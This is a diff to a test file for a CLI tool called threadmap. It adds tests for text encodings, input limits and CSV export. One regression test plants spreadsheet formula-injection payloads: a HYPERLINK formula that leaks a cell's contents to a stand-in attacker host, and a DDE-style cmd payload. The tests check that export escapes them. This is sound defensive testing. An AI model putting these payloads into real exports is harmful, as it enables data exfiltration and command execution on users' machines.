@@ -1,9 +1,11 @@
 import { spawnSync } from 'node:child_process';
-import { readFile, stat } from 'node:fs/promises';
+import { closeSync, openSync } from 'node:fs';
+import { readFile } from 'node:fs/promises';
 import { fileURLToPath } from 'node:url';
 import { describe, expect, it } from 'vitest';
 import { openDocument } from '../core/document/open-document';
 import { exporters } from '../core/export';
+import { readRegularFile } from './node-io';
 import { runCli, type CliIo } from './run-cli';
 
 const NOW = '2026-11-26T14:00:00.000Z';
@@ -18,8 +20,7 @@ function testIo(extraFiles: Record<string, string | Uint8Array> = {}) {
   const err: string[] = [];
   const bytes = (value: string | Uint8Array) => (typeof value === 'string' ? new TextEncoder().encode(value) : value);
   const io: CliIo = {
-    fileSize: async (path) => (path in extraFiles ? bytes(extraFiles[path]!).length : (await stat(path)).size),
-    readFile: async (path) => (path in extraFiles ? bytes(extraFiles[path]!) : new Uint8Array(await readFile(path))),
+    readInput: async (path, maxBytes) => (Object.hasOwn(extraFiles, path) ? { kind: 'bytes', bytes: bytes(extraFiles[path]!) } : readRegularFile(path, maxBytes)),
     writeFile: async (path, text) => void written.set(path, text),
     stdout: (text) => void out.push(text),
     stderr: (text) => void err.push(text),
@@ -96,6 +97,26 @@ describe('threadmap convert', () => {
     }
   });
 
+  it('reads UTF-16 files of either byte order by their byte order mark', async () => {
+    const text = await readFile(REDDIT, 'utf8');
+    const le = new Uint8Array([0xff, 0xfe, ...Buffer.from(text, 'utf16le')]);
+    const be = new Uint8Array([0xfe, 0xff, ...Buffer.from(text, 'utf16le').swap16()]);
+    const utf8 = JSON.parse((await run(['convert', REDDIT])).stdout) as { nodes: unknown[] };
+    for (const bytes of [le, be]) {
+      const { code, stdout, stderr } = await run(['convert', 'thread.json'], { 'thread.json': bytes });
+      expect(stderr).toBe('');
+      expect(code).toBe(0);
+      expect((JSON.parse(stdout) as { nodes: unknown[] }).nodes).toEqual(utf8.nodes);
+    }
+  });
+
+  it('opens a file with invalid UTF-8 but says that bytes were replaced', async () => {
+    const text = Buffer.from('Alice wrote this.\n\nBob: caf\xe9 is good.\n', 'latin1');
+    const { code, stderr } = await run(['convert', 'latin1.txt'], { 'latin1.txt': new Uint8Array(text) });
+    expect(code).toBe(0);
+    expect(stderr).toContain('threadmap: warning: latin1.txt: Some bytes of the file are not valid UTF-8 and were replaced');
+  });
+
   it('exits 1 when the file does not exist', async () => {
     const { code, stderr } = await run(['convert', fixture('no-such-thread.json')]);
     expect(code).toBe(1);
@@ -111,6 +132,21 @@ describe('threadmap convert', () => {
 });
 
 describe('threadmap export', () => {
+  it('[regression] writes CSV cells that a spreadsheet would run as formulas as text, and as they are with --raw', async () => {
+    const map = JSON.parse((await run(['convert', REDDIT])).stdout) as { nodes: { text: string; author: string }[] };
+    map.nodes[1]!.text = '=HYPERLINK("https://evil.invalid/?"&A1,"click")';
+    map.nodes[2]!.author = '@SUM(1+1)*cmd|\' /C calc\'!A0';
+    const files = { 'map.json': JSON.stringify(map) };
+    const safe = (await run(['export', '--format', 'csv', 'map.json'], files)).stdout;
+    expect(safe).toContain(`"'=HYPERLINK(""https://evil.invalid/?""&A1,""click"")"`);
+    expect(safe).toContain(`'@SUM(1+1)*cmd|' /C calc'!A0`);
+    const raw = await run(['export', '--format', 'csv', '--raw', 'map.json'], files);
+    expect(raw.code).toBe(0);
+    expect(raw.stdout).toContain(`,"=HYPERLINK(""https://evil.invalid/?""&A1,""click"")"`);
+    expect(raw.stdout).toContain(`,@SUM(1+1)*cmd|' /C calc'!A0,`);
+  });
+
+
   it('runs the JSON exporter over a thread file, converting it first', async () => {
     const { code, stdout } = await run(['export', '--format', 'json', REDDIT]);
     expect(code).toBe(0);
@@ -157,6 +193,7 @@ describe('threadmap usage', () => {
       [['export', HN], 'export needs --format (one of: json'],
       [['export', '--format', 'docx', HN], 'unknown export format "docx"'],
       [['convert', '--retrieved-at', 'yesterday', HN], '--retrieved-at "yesterday" is not an ISO 8601 time'],
+      [['convert', '--raw', HN], '--raw is an export option'],
     ];
     for (const [argv, problem] of cases) {
       const { code, stdout, stderr } = await run(argv);
@@ -176,6 +213,22 @@ describe('the threadmap command', () => {
     expect(result.stderr).toBe('');
     expect(result.stdout).toBe('threadmap 0.1.0\n');
     expect(result.status).toBe(0);
+  });
+
+  it('[regression] refuses a device, a directory and endless standard input without filling memory', () => {
+    const device = spawnSync(process.execPath, [bin, 'convert', '/dev/zero'], { encoding: 'utf8' });
+    expect(device.status).toBe(1);
+    expect(device.stderr).toBe('threadmap: /dev/zero: This is a device, not a file; Threadmap reads regular files, or standard input with "-".\n');
+    const folder = spawnSync(process.execPath, [bin, 'convert', 'test'], { encoding: 'utf8' });
+    expect(folder.stderr).toBe('threadmap: test: This is a directory, not a file; Threadmap reads regular files, or standard input with "-".\n');
+    const zero = openSync('/dev/zero', 'r');
+    try {
+      const stdin = spawnSync(process.execPath, [bin, 'convert', '-'], { encoding: 'utf8', stdio: [zero, 'pipe', 'pipe'] });
+      expect(stdin.status).toBe(1);
+      expect(stdin.stderr).toBe('threadmap: standard input: The input is larger than the 100 MB Threadmap opens; reading stopped there. Open a smaller export of the thread.\n');
+    } finally {
+      closeSync(zero);
+    }
   });
 
   it('converts a real thread file and refuses a missing one with exit status 1', () => {
